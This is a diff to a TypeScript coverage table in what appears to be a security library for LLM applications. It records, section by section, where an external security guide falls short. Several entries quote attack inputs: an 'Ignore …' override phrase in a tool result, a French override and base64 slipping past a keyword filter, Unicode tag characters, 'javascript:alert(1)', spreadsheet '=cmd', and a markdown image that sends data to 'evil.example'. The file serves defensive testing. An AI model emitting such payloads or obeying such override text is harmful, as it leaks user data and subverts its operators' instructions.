@@ -9,7 +9,7 @@ export interface CoverageRow {
   /** `section`, `class`, `function` or `box` and the name, as the guide writes it. */
   readonly part: string
   readonly here: readonly Place[]
-  /** What the guide's version gets wrong, with the input that shows it. Empty for headings that only group others. */
+  /** What the guide's version gets wrong, with the input that shows it. */
   readonly misses: string
   /** The test that proves ours: its file and a piece of its title. */
   readonly test: { readonly file: string; readonly title: string }
@@ -56,7 +56,7 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Overview',
     [at('README.md'), at('docs/architecture.md')],
-    '',
+    "a list of headings: nobody can tell from it whether one's own system does any of it",
     'examples/examples.test.ts',
     'the first example blocks an attack',
   ),
@@ -64,14 +64,14 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section API Key Security',
     [secrets, at('docs/secrets.md')],
-    '',
+    'a check of the first three characters and a cache without an end: `sk-` passes, and a rotated key is never seen',
     `${L}secrets/secrets-manager.test.ts`,
     'asks a source once',
   ),
   row(
     'section Environment Variables',
     [at(`${L}secrets/sources/environment-source.ts`, 'environmentSource')],
-    '',
+    '`sk-ant-…` in `OPENAI_API_KEY` passes, and the error of the provider comes at the first request of a user',
     MISSES,
     'a bare prefix are no OpenAI key',
   ),
@@ -85,7 +85,7 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Secrets Management',
     [at(`${L}secrets/node/secrets-manager-for.ts`, 'secretsManagerFor')],
-    '',
+    'a store that is away for a second fails every request; nothing goes on with the value it had',
     `${L}secrets/secrets-manager.test.ts`,
     'goes on with the old value',
   ),
@@ -139,11 +139,17 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
     'looked up in production',
   ),
 
-  row('section Input Validation', [shield], '', `${G}conversation-gate.test.ts`, 'redacts a card number in %s'),
+  row(
+    'section Input Validation',
+    [shield],
+    'one field of one class: `Ignore …` in a tool result, a file name or a JSON key reaches the model',
+    `${G}conversation-gate.test.ts`,
+    'redacts a card number in %s',
+  ),
   row(
     'section Sanitize User Input',
     [at(`${L}guards/unicode/unicode-guard.ts`), at(`${L}guards/input-limits/index.ts`)],
-    '',
+    '`\\u{e0041}…` (tag characters) stay, the empty line between two paragraphs goes',
     MISSES,
     'keeps its paragraphs',
   ),
@@ -185,7 +191,7 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Prevent Prompt Injection',
     [injection, at('docs/guards/prompt-injection.md')],
-    '',
+    'one list of English words: `Ignorez les instructions précédentes` and base64 pass',
     `${L}guards/prompt-injection/prompt-injection.test.ts`,
     'finds every attack',
   ),
@@ -221,14 +227,14 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Output Sanitization',
     [at(`${L}sinks/sanitize-for.ts`, 'sanitizeFor'), at('docs/sinks.md')],
-    '',
+    'one escape for every place: `javascript:alert(1)` in a link and `=cmd` in a spreadsheet survive it',
     `${L}sinks/html.test.ts`,
     'gives HTML whose tree survives',
   ),
   row(
     'section Validate LLM Responses',
     [at(`${L}sinks/index.ts`)],
-    '',
+    '`![x](https://evil.example/?q=…)` carries data away and no line looks at it',
     agentTest,
     'redacts and neutralises what the model says',
   ),
@@ -270,7 +276,7 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Schema-Based Output Validation',
     [at(`${L}agent/io-schema.ts`, 'ioSchema')],
-    '',
+    'one field too long and the whole answer is an exception: no repair, no bounded retry',
     `${L}agent/hostile-model.property.test.ts`,
     'no unsanitized or unvalidated field',
   ),
@@ -299,14 +305,14 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Rate Limiting and Abuse Prevention',
     [limiter, at('docs/limits.md')],
-    '',
+    'requests are counted, tokens are not: one request of 100,000 tokens is one request',
     `${G}limits/rate-limits.test.ts`,
     'then answers 429',
   ),
   row(
     'section User-Level Rate Limiting',
     [at(`${G}limits/rate-limits.ts`, 'RateLimits')],
-    '',
+    'two processes give twice the limit; an id of a megabyte is kept as it is',
     `${G}limits/rate-limits.test.ts`,
     'holds for each person',
   ),
@@ -341,7 +347,7 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Content Policy Enforcement',
     [at(`${L}guards/content-policy/index.ts`), at(`${L}guards/pii/index.ts`)],
-    '',
+    '`illegal activities` is refused wherever it stands, `illegal  activities` with two spaces nowhere',
     `${L}guards/content-policy/content-policy.test.ts`,
     'are found when somebody asks',
   ),
@@ -370,7 +376,7 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Logging Security Events',
     [log, at('docs/audit.md')],
-    '',
+    'who can write the file can take a line out, and nothing shows it',
     `${G}audit.test.ts`,
     'holds the trail of a request',
   ),
@@ -427,14 +433,14 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
   row(
     'section Secure Configuration',
     [config, at('docs/configuration.md')],
-    '',
+    '`MAX_TOKENS=4096x` is a stack trace, and an unknown setting is no error at all',
     `${C}config/config.test.ts`,
     'reports every problem at once',
   ),
   row(
     'section Configuration Validation',
     [at(`${C}config/risks.ts`, 'findRisks')],
-    '',
+    'valid is all it asks: a limit of a million requests a minute is accepted without a word',
     `${C}config/config.test.ts`,
     'judges what would run',
   ),
@@ -467,38 +473,100 @@ export const GUIDE_COVERAGE: readonly CoverageRow[] = [
     `${C}commands/audit.test.ts`,
     'fails nothing of the defaults',
   ),
-  row('section Development', [at(`${G}checklist/items.data.ts`, 'ITEMS')], '', WEAK, 'has one check for each item'),
-  box('API keys never in source code', 'keys-not-in-source', 'keysNotInSource', 'the git history is not thought of', [
-    `${C}commands/audit.test.ts`,
-    'a key in the history',
-  ]),
+  row(
+    'section Development',
+    [at(`${G}checklist/items.data.ts`, 'ITEMS')],
+    'boxes that a person ticks: nothing says what was looked at',
+    WEAK,
+    'has one check for each item',
+  ),
+  box(
+    'API keys never in source code',
+    'keys-not-in-source',
+    'keysNotInSource',
+    '`git log -p` still has the key that was taken out of the file',
+    [`${C}commands/audit.test.ts`, 'a key in the history'],
+  ),
   box(
     'Input validation on all user inputs',
     'input-validation',
     'inputValidation',
-    '"all" is not looked at: streams, other routes',
+    '"all" is not looked at: a stream, a tool result, a second route',
     DENIED,
   ),
   box(
     'Output sanitization before display',
     'output-sanitization',
     'outputSanitization',
-    'images are not thought of',
+    'images: `![x](https://evil.example/?q=…)` loads by itself',
     DENIED,
   ),
   box('Schema constraints on LLM outputs', 'output-schema', 'outputSchema', 'what a provider adds is passed on'),
   box('Security logging implemented', 'security-logging', 'securityLogging', 'whether the log was edited', DENIED),
-  row('section Deployment', [at(`${G}checklist/items.data.ts`, 'ITEMS')], '', WEAK, 'has one check for each item'),
-  box('Secrets stored in secrets manager', 'secrets-manager', 'secretsManager', ''),
+  row(
+    'section Deployment',
+    [at(`${G}checklist/items.data.ts`, 'ITEMS')],
+    'boxes that a person ticks: nothing says what was looked at',
+    WEAK,
+    'has one check for each item',
+  ),
+  box(
+    'Secrets stored in secrets manager',
+    'secrets-manager',
+    'secretsManager',
+    'a key in an environment variable of a production machine ticks the box as well',
+  ),
   box('HTTPS enabled', 'https', 'https', 'loopback, old versions, certificates that end'),
   box('Rate limiting configured', 'rate-limiting', 'rateLimiting', 'a configured limit that never answers', DENIED),
-  box('Content policy enforcement', 'content-policy', 'contentPolicy', '', DENIED),
-  box('Security headers set', 'security-headers', 'securityHeaders', '', DENIED),
-  row('section Monitoring', [at(`${G}checklist/items.data.ts`, 'ITEMS')], '', WEAK, 'has one check for each item'),
-  box('Auth failures logged', 'auth-failures-logged', 'authFailuresLogged', '', DENIED),
-  box('Rate limit events logged', 'rate-limit-events-logged', 'rateLimitEventsLogged', '', DENIED),
-  box('Injection attempts logged', 'injection-attempts-logged', 'injectionAttemptsLogged', '', DENIED),
-  box('Policy violations logged', 'policy-violations-logged', 'policyViolationsLogged', '', DENIED),
+  box(
+    'Content policy enforcement',
+    'content-policy',
+    'contentPolicy',
+    'a policy that looks at inputs alone: a card number in an answer passes',
+    DENIED,
+  ),
+  box(
+    'Security headers set',
+    'security-headers',
+    'securityHeaders',
+    'which headers, and with what: `default-src *` is a policy, too',
+    DENIED,
+  ),
+  row(
+    'section Monitoring',
+    [at(`${G}checklist/items.data.ts`, 'ITEMS')],
+    'boxes that a person ticks: nothing says whether an event of each class is really there',
+    WEAK,
+    'has one check for each item',
+  ),
+  box(
+    'Auth failures logged',
+    'auth-failures-logged',
+    'authFailuresLogged',
+    '`log_auth_attempt` is there and nobody calls it; a million wrong keys fill the disk',
+    DENIED,
+  ),
+  box(
+    'Rate limit events logged',
+    'rate-limit-events-logged',
+    'rateLimitEventsLogged',
+    '`log_rate_limit` is there and nobody calls it',
+    DENIED,
+  ),
+  box(
+    'Injection attempts logged',
+    'injection-attempts-logged',
+    'injectionAttemptsLogged',
+    'the first hundred characters of the attack, with the card number in them, are in the log',
+    DENIED,
+  ),
+  box(
+    'Policy violations logged',
+    'policy-violations-logged',
+    'policyViolationsLogged',
+    'what was redacted and not refused leaves no line',
+    DENIED,
+  ),
   box('Alerts configured for anomalies', 'alerts', 'alerts', 'that an alert arrives', [
     `${G}alerts/alerts.test.ts`,
     'are delivered signed',
